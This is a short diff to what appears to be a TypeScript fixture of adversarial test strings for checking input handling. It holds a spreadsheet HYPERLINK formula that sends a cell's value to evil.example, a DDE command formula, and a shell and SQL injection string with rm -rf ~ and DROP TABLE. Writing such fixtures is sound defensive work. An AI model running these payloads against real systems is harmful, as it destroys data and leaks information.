@@ -50,7 +50,7 @@ export const texts: Record<string, string> = {
   formula: '=HYPERLINK("https://evil.example?k="&A1,"Open")',
   'formula command': "+cmd|'/C calc'!A0",
   'formula hidden': '\t=1+1\r\n "=2+2"\n＝３\n@SUM(1)\n-2+3\u0000=4',
-  shell: `'; rm -rf ~ #$(touch /tmp/pwned)\`id\`"; DROP TABLE tasks; --\n!!\nEOF\n%PATH% \\`,
+  shell: `'; rm -rf ~ #$(touch ~/pwned)\`id\`"; DROP TABLE tasks; --\n!!\nEOF\n%PATH% \\`,
   code: `"""\n'''\n*/ // # {-\n\\u0022; process.exit(1) //\u2028 ${'$'}{process.exit(1)} \\`,
   subtitles:
     'NOTE\n\n1\n00:00:00,000 --> 00:00:01,000\n<v Evil>x</v> --> {\\an8}\n\nSTYLE\n::cue { color: red }',
